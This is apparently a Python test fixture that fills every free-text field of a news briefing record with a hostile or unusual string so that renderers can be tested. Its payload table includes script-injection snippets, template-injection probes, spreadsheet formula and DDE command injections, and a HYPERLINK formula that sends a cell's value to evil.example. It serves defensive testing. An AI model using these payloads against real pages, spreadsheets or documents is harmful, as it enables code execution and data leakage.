"""Briefings whose every text field is hostile or odd, for the tests of the renderers."""

from briefing_story import briefing
from counterclaim.core.records import Briefing

Json = dict[str, "Json"] | list["Json"] | str | int | float | bool | None

FREE = frozenset(
    "title source outlet byline language text quote question answer name role side cue place unit measure population "
    "reason what who where when headline speaker originator differs_by flags reader model version tags bottom_line".split()
)
PAYLOADS = {
    "escape sequences": "a\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b0m\x00\x08b",
    "bidi overrides": "safe\u202egnihtyna\u202c \u2066x\u2069\u200f\u061cy",
    "line breaks": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix\x85seven",
    "markdown links": "[click](javascript:alert(1)) ![i](http://evil.example/x.png) <http://evil.example> www.evil.example",
    "markdown blocks": "# not a heading",
    "markdown list": "1. not a list",
    "markdown rule": "--- *** ___ ``` ~~~ ===",
    "markdown inline": "*a* **b** _c_ __d__ ~~e~~ `f` [^1]: g [h]: i | j \\* $k$ &amp; &#42;",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)><!-- x --></td></table>",
    "the end of a style sheet": "</style><style>*{display:none}</style></script>]]>--></textarea></title>",
    "event handlers": "\" onmouseover=\"alert(1)\" x=' onclick='alert(1)' `a` javascript:alert(1)",
    "a link to a script": "javascript:alert(document.domain)",
    "a template": "{{ 7*7 }} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %> %(a)s {0}",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "a command": "+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a difference": "-2+3;=1+1",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "a wide formula": "＝1+1",
    "cells": 'a","=b(c)","\n"=d;"=e\t=f',
    "a field of a word processor": '{ INCLUDETEXT "C:\\x" } \\fldinst DDEAUTO c:\\calc.exe </w:t></w:r>',
    "rich markup": "[bold red]not red[/bold red] :warning: [link=http://evil.example]x[/link]",
    "a long word": "x" * 10_000,
    "right to left": "قال المتحدث إن ثلاثة وعشرين جنديا قتلوا",
    "wide letters": "地震で三十一人が死亡したと当局が発表した",
    "emoji": "👩‍👩‍👧‍👦 🇦🇫 e\u0301 👍🏽",
    "an unpaired surrogate": "a\ud800b",
    "quotation marks": "“a” \"b\" «c» ‹d› 'e'",
    "nothing": "",
    "white space": " \t \n ",
}


def poison(payload: str, *, prefix: str = "") -> Briefing:
    """The story with the payload in every free text field, behind `prefix`."""
    made = briefing().model_dump(mode="python")
    return Briefing.model_validate(_poisoned(made, prefix + payload))


def _poisoned(value: Json, payload: str, key: str = "") -> Json:
    if isinstance(value, dict):
        return {name: _poisoned(item, payload, name) for name, item in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_poisoned(item, payload, key) for item in value)
    return payload if isinstance(value, str) and key in FREE else value
